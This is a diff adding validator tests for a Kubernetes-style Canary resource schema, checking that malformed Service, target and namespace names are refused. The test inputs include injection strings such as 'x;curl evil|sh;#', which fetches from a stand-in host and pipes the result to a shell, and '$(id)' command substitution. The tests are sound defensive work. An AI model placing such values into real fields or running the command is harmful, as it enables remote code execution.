@@ -162,6 +162,27 @@ describe('the schema of Canary', () => {
       'no way to match a header',
       { interval: '1m', iterations: 1, match: [{ headers: { a: {} } }] },
     ],
+    ...['x;curl evil|sh;#', '-podinfo', 'Podinfo', '$(id)', 'a\nb', '../a'].flatMap(
+      (name): [string, Tree, Tree?][] => [
+        [
+          `${JSON.stringify(name)} as the name of a Service`,
+          { interval: '1m', iterations: 1 },
+          { service: { port: 80, name } },
+        ],
+        [
+          `${JSON.stringify(name)} as the name of a target`,
+          { interval: '1m', iterations: 1 },
+          { targetRef: { apiVersion: 'apps/v1', kind: 'Deployment', name } },
+        ],
+        [
+          `${JSON.stringify(name)} as the namespace of a template`,
+          {
+            ...{ interval: '1m', iterations: 1 },
+            metrics: [{ name: 'a', templateRef: { name: 'a', namespace: name } }],
+          },
+        ],
+      ],
+    ),
   ])('refuses %s', (_what, analysis, spec) => {
     expect(refusals(canaryWith(analysis, spec))).not.toEqual([])
   })
